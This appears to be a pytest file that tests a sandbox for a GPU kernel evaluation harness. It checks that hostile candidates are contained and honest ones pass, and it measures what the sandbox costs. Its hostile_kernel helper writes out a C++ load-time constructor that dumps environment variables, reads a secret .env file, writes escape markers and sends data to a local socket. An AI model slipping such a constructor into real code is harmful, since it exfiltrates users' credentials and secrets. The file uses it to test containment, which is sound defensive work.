"""GPU tests (pytest -m gpu) of the sandbox: a hostile candidate evaluated through the real
Evaluator and worker is contained; honest candidates pass every check inside it; and what the
sandbox costs per build and per evaluation (printed, not asserted: run with -s to see it).
"""

from __future__ import annotations

import secrets
import statistics
import time
from pathlib import Path

import pytest

from harness import sandbox
from harness.build import build, normalize_arch
from harness.evaluate import Evaluator
from harness.families import catalog
from harness.shapes import Shape
from harness.testkernels import source as kernel_source

from tests.test_sandbox import CANARY, Listener

pytestmark = [pytest.mark.gpu,
              pytest.mark.skipif(not sandbox.probe().works, reason=f"bwrap does not work: {sandbox.probe().detail}")]

GOOD = kernel_source("testgood_simple")
SHAPE = Shape(256, 200, 1024)


def hostile_kernel(markers: list[Path], port: int, secret: Path) -> str:
    """testgood_simple (a correct GEMM) plus a load-time constructor that tries every escape."""
    names = ", ".join(f'"{m}"' for m in markers)
    head = f"""#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
extern char** environ;
__attribute__((constructor)) static void hostile() {{
  fprintf(stderr, "HOSTILE-RAN\\n");
  const char* ms[] = {{{names}}};
  for (const char* m : ms) {{ FILE* f = fopen(m, "w"); if (f) {{ fputs("escaped", f); fclose(f); }} }}
  const char* c = getenv("L2TUI_TEST_CANARY");
  fprintf(stderr, "HOSTILE canary=%s\\n", c ? c : "(none)");
  for (char** e = environ; e && *e; ++e) fprintf(stderr, "HOSTILE env %s\\n", *e);
  FILE* s = fopen("{secret}", "rb");
  if (s) {{ char b[256] = {{0}}; fread(b, 1, 255, s); fclose(s); fprintf(stderr, "HOSTILE secret %s\\n", b); }}
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a; memset(&a, 0, sizeof(a));
  a.sin_family = AF_INET; a.sin_port = htons({port}); a.sin_addr.s_addr = inet_addr("127.0.0.1");
  if (fd >= 0 && connect(fd, (struct sockaddr*)&a, sizeof(a)) == 0) send(fd, "HELLO", 5, 0);
  fprintf(stderr, "HOSTILE-DONE\\n");
}}
"""
    return head + GOOD


@pytest.fixture
def sandboxed(tmp_path, monkeypatch):
    monkeypatch.setenv("L2TUI_TEST_CANARY", CANARY)
    prev = sandbox.set_mode("require")
    yield tmp_path
    sandbox.set_mode(prev)


def test_hostile_candidate_through_the_evaluator_is_contained(sandboxed):
    secret = sandboxed / "home" / ".env"
    secret.parent.mkdir()
    secret.write_text(CANARY)
    listener = Listener()
    markers = [sandboxed / "marker", secret.parent / "marker"]
    try:
        with Evaluator(baselines=("cublas",), timeout_s=120) as ev:
            r = ev.evaluate(hostile_kernel(markers, listener.port, secret), SHAPE, trusted=True)  # policy bypassed
            assert ev.worker.sandboxed
            log = Path(ev.worker._stderr_path).read_text(errors="replace")
        assert "HOSTILE-RAN" in log and "HOSTILE-DONE" in log       # the constructor ran, inside
        assert r.status == "ok", r.message                           # and the GEMM is still checked and timed
        for m in markers:
            assert not m.exists()
        time.sleep(0.5)
        assert listener.connections == []
        everything = log + r.message + repr(r.extra) + repr(r.build.to_dict() if r.build else None)
        assert CANARY not in everything and "canary=(none)" in log
    finally:
        listener.close()


def test_the_policy_refuses_the_same_candidate_with_one_line(sandboxed):
    listener = Listener()
    try:
        with Evaluator(baselines=("cublas",), timeout_s=120) as ev:
            r = ev.evaluate(hostile_kernel([sandboxed / "m"], listener.port, sandboxed / "s"), SHAPE)
        assert r.status == "compile_error" and "source policy" in r.message and "\n" not in r.message
    finally:
        listener.close()


@pytest.mark.parametrize("which", ["testgood_simple", "catalog"])
def test_honest_candidates_pass_every_check_inside_the_sandbox(sandboxed, which):
    with Evaluator(baselines=("cublas",), timeout_s=300) as ev:
        src = GOOD if which == "testgood_simple" else catalog("f32", normalize_arch(ev.arch))[0].source()
        r = ev.evaluate(src, Shape(1024, 1024, 1024) if which == "catalog" else SHAPE)
        assert ev.worker.sandboxed
    assert r.status == "ok", r.message
    checks = r.check["checks"]
    for c in ("runs", "written", "guards", "inputs", "accuracy", "exact", "deterministic", "graph_replay"):
        assert checks[c]["ok"], (c, checks[c])
    assert r.times_ms["candidate"] > 0 and r.times_ms["cublas"] > 0


def _median_s(fn, n: int) -> float:
    xs = []
    for _ in range(n):
        t0 = time.perf_counter()
        fn()
        xs.append(time.perf_counter() - t0)
    return statistics.median(xs)


def test_print_what_the_sandbox_costs(tmp_path, monkeypatch):
    """Per build (nvcc of a small kernel and of one CUTLASS configuration) and per evaluation
    (worker start plus the first evaluation; a steady evaluation), sandbox on vs off."""
    monkeypatch.setenv("L2TUI_CACHE_DIR", str(tmp_path / "cache"))
    cut = catalog("f32", normalize_arch(None))[0].source()
    rows = []
    for mode in ("require", "off"):
        prev = sandbox.set_mode(mode)
        try:
            small = _median_s(lambda: build(GOOD + f"\n// {secrets.token_hex(4)}\n", use_cache=False), 3)
            big = _median_s(lambda: build(cut, use_cache=False), 1)
            with Evaluator(baselines=("cublas",), timeout_s=300) as ev:
                t0 = time.perf_counter()
                r1 = ev.evaluate(GOOD, SHAPE)
                first = time.perf_counter() - t0
                steady = _median_s(lambda: ev.evaluate(GOOD, SHAPE), 3)
                r2 = ev.evaluate(GOOD, SHAPE)
                on = ev.worker.sandboxed
            assert r1.status == r2.status == "ok"
            timing = r2.extra.get("timing") or r2.extra.get("mode")
            rows.append((mode, on, small, big, first, steady, r2.times_ms.get("candidate"), timing))
        finally:
            sandbox.set_mode(prev)
    print(f"\nsandbox cost (wall seconds; candidate ms in the evaluator's timing mode: {rows[0][7]}):")
    print(f"{'setting':8} {'sandboxed':9} {'small build':>11} {'CUTLASS build':>13} {'worker start+1st eval':>21} "
          f"{'eval (cached build)':>19} {'candidate ms':>12}")
    for mode, on, small, big, first, steady, ms, _ in rows:
        print(f"{mode:8} {str(on):9} {small:11.2f} {big:13.1f} {first:21.2f} {steady:19.2f} {ms or 0:12.4f}")
    assert rows[0][1] is True and rows[1][1] is False
